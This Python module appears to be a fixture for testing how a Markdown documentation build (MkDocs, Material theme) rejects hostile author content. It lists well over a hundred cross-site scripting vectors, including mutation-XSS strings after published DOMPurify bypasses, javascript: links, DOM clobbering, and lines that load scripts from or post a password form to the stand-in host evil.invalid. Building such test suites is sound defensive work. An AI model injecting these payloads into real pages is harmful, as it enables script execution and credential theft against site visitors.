"""What a hostile author might write, and who stops it.

In a text ``PWN()`` is a call that tells the test which payload ran, and ``evil.invalid`` is a host
that answers everything with what runs. Sources: the OWASP and PortSwigger lists of cross-site
scripting vectors, the published bypasses of DOMPurify, and what MkDocs, Material for MkDocs and our own scripts react to.
"""

from __future__ import annotations

from dataclasses import dataclass

HOST = "evil.invalid"
CHECK, HOOK, CSP = "check", "sanitising", "Content-Security-Policy"
ACTIVE, RAW = "active-markup", "raw-html"
_IMAGE = "<img src=x onerror=PWN()>"


@dataclass(frozen=True)
class Payload:
    """One attack.

    ``code``: the error that the checks refuse it with, empty where Markdown makes plain text of it.
    ``runs``: whether it does something on a page that nobody guards. ``beyond``: the guards that, each by
    itself, cannot stop it. ``alone``: it swallows or replaces the rest of its page.
    """

    id: str
    text: str
    code: str = ACTIVE
    runs: bool = True
    beyond: frozenset[str] = frozenset()
    alone: bool = False

    def written(self, number: int) -> str:
        """The text, with the payload's number in what it calls."""
        return self.text.replace("WN()", f"WN({number})").replace(HOST, f"{HOST}/{number}")


def _p(id: str, text: str, code: str = ACTIVE, *, runs: bool = True, alone: bool = False, beyond: str = "") -> Payload:
    return Payload(id, text, code, runs, frozenset(filter(None, [beyond])), alone)


# In the body of a page. What is not marked runs on a page of the plain engine, and by each guard alone is kept from it.
BODY = (
    # Scripts
    _p("script", "<script>PWN()</script>"),
    _p("script-elsewhere", '<script src="https://evil.invalid/x.js"></script>'),
    _p("script-letters", "<ScRiPt>PWN()</sCrIpT >"),
    _p("script-split", "<scr<script>ipt>PWN()</script>", runs=False),
    _p("script-own-file", '<script src="../files/notes.txt"></script>'),
    _p("script-module", '<script type="module">PWN()</script>'),
    _p("script-data", '<script src="data:text/javascript,PWN()"></script>'),
    _p("script-paragraph", "甲 <script>PWN()</script> 乙"),
    # Handlers
    _p("img-error", _IMAGE),
    _p("img-slashes", '<img/src="x"/onerror=PWN()>', runs=False),
    _p("img-lines", "<img\nsrc=x\nonerror=PWN() >"),
    _p("img-letters", "<IMG SRC=x oNeRrOr=PWN()>"),
    _p("img-unclosed", "<div><img src=x onerror=PWN()", alone=True),
    _p("handler-entity", '<img src=x onerror="&#80;WN()">'),
    _p("details-toggle", "<details open ontoggle=PWN()><summary>甲</summary>乙</details>"),
    _p("body-load", "<body onload=PWN()>"),
    _p("video-error", "<video><source onerror=PWN() src=x></video>"),
    _p("audio-error", "<audio src=x onerror=PWN()></audio>"),
    _p("focus", '<input onfocus=PWN() autofocus>'),
    _p("pointer", "<p onpointerover=PWN()>甲</p>"),
    _p("marquee", "<marquee onstart=PWN()>甲</marquee>", runs=False),
    _p("popover", '<button popovertarget=pop>甲</button><div popover id=pop onbeforetoggle=PWN()>乙</div>'),
    _p("custom-element", "<x-y onclick=PWN()>甲</x-y>"),
    # SVG and MathML
    _p("svg-load", "<svg onload=PWN()></svg>"),
    _p("svg-script", "<svg><script>PWN()</script></svg>"),
    _p("svg-script-href", '<svg><script href="data:text/javascript,PWN()"></script></svg>'),
    _p("svg-begin", "<svg><animate onbegin=PWN() attributeName=x dur=1s></animate></svg>"),
    _p("svg-link", '<svg><a href="javascript:PWN()"><text y="20">甲</text></a></svg>'),
    _p("svg-xlink", '<svg><a xlink:href="javascript:PWN()"><text y="20">甲</text></a></svg>'),
    _p("svg-animated", "<svg><a><animate attributeName=href values=javascript:PWN() /><text y=20>甲</text></a></svg>"),
    _p("svg-foreign", f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>"),
    _p("svg-image", '<svg><image href="https://evil.invalid/x.png"></image></svg>'),
    _p("svg-paint", '<svg><rect width="9" height="9" fill="url(https://evil.invalid/x.svg#a)"></rect></svg>'),
    _p("svg-filter", '<svg><filter id="f"><feImage href="https://evil.invalid/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'),
    _p("math-link", '<math href="javascript:PWN()">甲</math>', runs=False),
    # What parsers read differently the second time
    _p("mutation-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=PWN()>"></a></svg>', alone=True),
    _p("mutation-math", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWN()&gt;">', alone=True, runs=False),
    _p("mutation-form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN()>", alone=True, runs=False),
    _p("mutation-noscript", '<noscript><p title="</noscript><img src=x onerror=PWN()>"></noscript>', alone=True),
    _p("mutation-textarea", '<textarea><p title="</textarea><img src=x onerror=PWN()>"></textarea>', alone=True),
    _p("mutation-title", '<svg><title><style><p title="</style><img src=x onerror=PWN()>"></title></svg>', alone=True),
    _p("mutation-xmp", '<xmp><p title="</xmp><img src=x onerror=PWN()>"></xmp>', RAW, alone=True),
    _p("mutation-namespace", '<svg><p><style><g title="</style><img src=x onerror=PWN()>"></svg>', alone=True),
    _p("mutation-table", f"<table><tr>{_IMAGE}</table>"),
    _p("mutation-select", "<select><template><img src=x onerror=PWN()></template></select>", runs=False),
    _p("shadow-root", f"<div><template shadowrootmode=open>{_IMAGE}</template></div>"),
    # Comments and declarations
    _p("comment-short", f"<!-->{_IMAGE}-->", alone=True),
    _p("comment-bang", f"<!-- --!>{_IMAGE} -->", alone=True),
    _p("comment-cdata", f"<![CDATA[>{_IMAGE}]]>", alone=True),
    _p("comment-question", f"<?x >{_IMAGE}?>", alone=True),
    # Documents in the document
    _p("frame-srcdoc", '<iframe srcdoc="<script>PWN()</script>"></iframe>'),
    _p("frame-javascript", '<iframe src="javascript:PWN()"></iframe>'),
    _p("frame-elsewhere", '<iframe src="https://evil.invalid/x.html"></iframe>'),
    _p("frame-data", '<iframe src="data:text/html,<script>PWN()</script>"></iframe>'),
    _p("object", '<object data="https://evil.invalid/x.html"></object>'),
    _p("embed", '<embed src="https://evil.invalid/x.html">'),
    # What moves, loads or changes the page
    _p("base", '<base href="https://evil.invalid/a/b/">', alone=True),
    _p("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">', alone=True, beyond=CSP),
    _p("style-sheet", '<link rel="stylesheet" href="https://evil.invalid/x.css">'),
    _p("style-import", "<style>@import url(https://evil.invalid/x.css);</style>"),
    _p("style-attribute", '<p style="background:url(https://evil.invalid/x.png)">甲</p>', RAW),
    _p("table-background", '<table background="https://evil.invalid/x.png"><tr><td>甲</td></tr></table>', RAW),
    _p("img-elsewhere", '<img src="https://evil.invalid/x.png">'),
    _p("img-set", '<img srcset="https://evil.invalid/x.png 1x">'),
    _p("video-poster", '<video poster="https://evil.invalid/x.png"></video>'),
    _p("input-image", '<input type="image" src="https://evil.invalid/x.png">'),
    _p("form-elsewhere", '<form action="https://evil.invalid/"><input type="password" name="p"></form>', alone=True),
    _p("form-javascript", '<form action="javascript:PWN()"><button>甲</button></form>', alone=True),
    _p("form-button", '<form><button formaction="javascript:PWN()">甲</button></form>', alone=True),
    _p("overlay-style", '<a href="https://evil.invalid/" style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:99">甲</a>', RAW, alone=True),
    _p("overlay-theme", '<a href="https://evil.invalid/" class="md-search__overlay md-overlay" data-md-component="search">甲</a>', RAW, runs=False),
    # Links
    _p("link-html", '<a href="javascript:PWN()">甲</a>'),
    _p("link-html-tab", '<a href="java&#9;script:PWN()">甲</a>'),
    _p("link-html-control", '<a href="&#1;javascript:PWN()">甲</a>'),
    _p("link-area", '<map name="m"><area href="javascript:PWN()"></map>'),
    _p("link-data", "[甲](data:text/html,<script>PWN()</script>)", runs=False),
    _p("link", "[甲](javascript:PWN())"),
    _p("link-letters", "[甲](JaVaScRiPt:PWN())"),
    _p("link-angle", "[甲](<javascript:PWN()>)"),
    _p("link-entity", "[甲](JaVa&#115;cript&#58;PWN())"),
    _p("link-tab", "[甲](java&#9;script:PWN())"),
    _p("link-newline", "[甲](java&NewLine;script&colon;PWN())"),
    _p("link-comment", "[甲](javascript://x/%0aPWN())"),
    _p("link-reference", "[甲][bad]\n\n[bad]: javascript:PWN()"),
    _p("link-autolink", "<javascript:PWN()>", runs=False),
    _p("link-title", '[甲](../index.md "乙\\" onclick=PWN() x=\\"")', "", runs=False),
    _p("link-vbscript", "[甲](vbscript:PWN())", runs=False),
    _p("image-javascript", "![甲](javascript:PWN())", runs=False),
    _p("image-elsewhere", "![甲](https://evil.invalid/x.png)", "external-resource"),
    _p("image-no-scheme", "![甲](//evil.invalid/x.png)", "external-resource"),
    _p("image-backslashes", "![甲](/\\evil.invalid/x.png)", "rooted-link"),
    _p("image-alt", '![甲" onerror="PWN()](x.png)', "attachment-missing", runs=False),
    # Attribute lists
    _p("list-click", "*甲*{onclick=PWN()}"),
    _p("list-block", "甲\n{: onclick=PWN() }"),
    _p("list-heading", "## 甲乙 {onmouseover=PWN()}", runs=False),
    _p("list-image", "![甲](x.png){onerror=PWN()}"),
    _p("list-href", "[甲](#top){href=javascript:PWN()}"),
    _p("list-style", '*甲*{style="background:url(https://evil.invalid/x.png)"}'),
    _p("list-cell", "| 甲 {onclick=PWN()} |\n|--|\n| 乙 |"),
    _p("list-mermaid", '<pre class="mermaid"><code>graph</code></pre>', RAW, alone=True),
    _p(
        "explorer",
        '<div data-zy-explorer data-src="https://evil.invalid/x.js"><a data-zy-facet="kind" data-zy-value="x" href="#">甲</a>'
        "<p data-zy-count></p><ul data-zy-results></ul><div data-zy-bar></div></div>",
        RAW,
        alone=True,
    ),
    _p("overlay-card", "## [甲丁](https://evil.invalid/) {.zy-card__title}", "", runs=False, alone=True),
    # Headings and the table of contents, which the theme prints once more
    _p("heading-html", f"## 甲丙 {_IMAGE}"),
    _p("heading-id", f"## 甲戊 {{id='\"></a>{_IMAGE}'}}"),
    _p("heading-label", '## 甲己 {data-toc-label="&lt;img src=x onerror=PWN()&gt;"}', runs=False),
    _p("heading-entity", "## 甲庚 &lt;img src=x onerror=PWN()&gt;", "", runs=False),
    _p("heading-code", f"## 甲辛 `{_IMAGE}`", "", runs=False),
    # Everything else that Markdown and its extensions read
    _p("footnote", f"甲[^a]\n\n[^a]: {_IMAGE}"),
    _p("footnote-name", '甲[^"onclick=PWN()]\n\n[^"onclick=PWN()]: 乙', "", runs=False),
    _p("cell", f"| 甲 |\n|--|\n| {_IMAGE} |"),
    _p("list-item", f"- 甲\n\n    {_IMAGE}"),
    _p("quote", f"> {_IMAGE}"),
    _p("definition", f"甲\n:   {_IMAGE}"),
    _p("admonition-title", f'!!! note "{_IMAGE}"\n    甲'),
    _p("admonition-type", '!!! note"onclick="PWN() "甲"\n    乙', "", runs=False),
    _p("code-span", f"`{_IMAGE}`", "", runs=False),
    _p("code-span-open", f"``甲 {_IMAGE}"),
    _p("fence", f"```html\n{_IMAGE}\n```", "", runs=False),
    _p("fence-title", f'```html title="{_IMAGE}"\n甲\n```', "code-fence", runs=False),
    _p("fence-attributes", '``` { .py onclick="PWN()" title="\\" onclick=PWN()" }\n甲\n```', "code-fence", runs=False),
    _p("fence-language", '```"onclick=PWN()\n甲\n```', "code-fence", runs=False),
    _p("fence-in-list", f"- 甲\n```\n{_IMAGE}\n```", "", runs=False),
    _p("indented", f"甲\n\n    {_IMAGE}", runs=False),
    _p("entities", "&lt;img src=x onerror=PWN()&gt; &amp;lt;script&amp;gt;", "", runs=False),
    _p("escaped", "\\<img src=x onerror=PWN()\\>", runs=False),
    # Letters
    _p("null", "<scr\x00ipt>PWN()</script>", "control-character", runs=False),
    _p("stash", "甲 \x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03", "control-character", runs=False),
    _p("full-width", "＜img src=x onerror=PWN()＞", "", runs=False),
    _p("long-s", "<ſcript>PWN()</ſcript>", "", runs=False),
    _p("form-feed", "<img src=x\x0conerror=PWN()>", "control-character"),
    _p("bidi", "<\u202eimg src=x onerror=PWN()>", "control-character", runs=False),
    # Names by which scripts find things
    _p("clobber-config", '<div id="__config">{"base":"https://evil.invalid/"}</div>', RAW, alone=True, beyond=CSP),
    _p("clobber-document", '<img name="getElementById" src="../a.png" alt=""><form name="querySelectorAll"></form>', alone=True, beyond=CSP),
    _p("clobber-attribute", "## 甲壬 {#__config}", "reserved-anchor", alone=True, beyond=CSP),
)  # fmt: skip

# In every field that takes words: there it stays words.
FRONT = (
    "<img src=x onerror=PWN()>",
    "</title><script>PWN()</script>",
    '"><svg onload=PWN()>',
    "](javascript:PWN())",
    "<javascript:PWN()>",
    "甲{onclick=PWN()}",
    "&lt;img src=x onerror=PWN()&gt;",
    "</script><script>PWN()</script>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>PWN()</x:script>",
    "{!/CANARY!}",
    "`<img src=x onerror=PWN()>`",
    "</textarea></pre></code><b onclick=PWN()>",
)
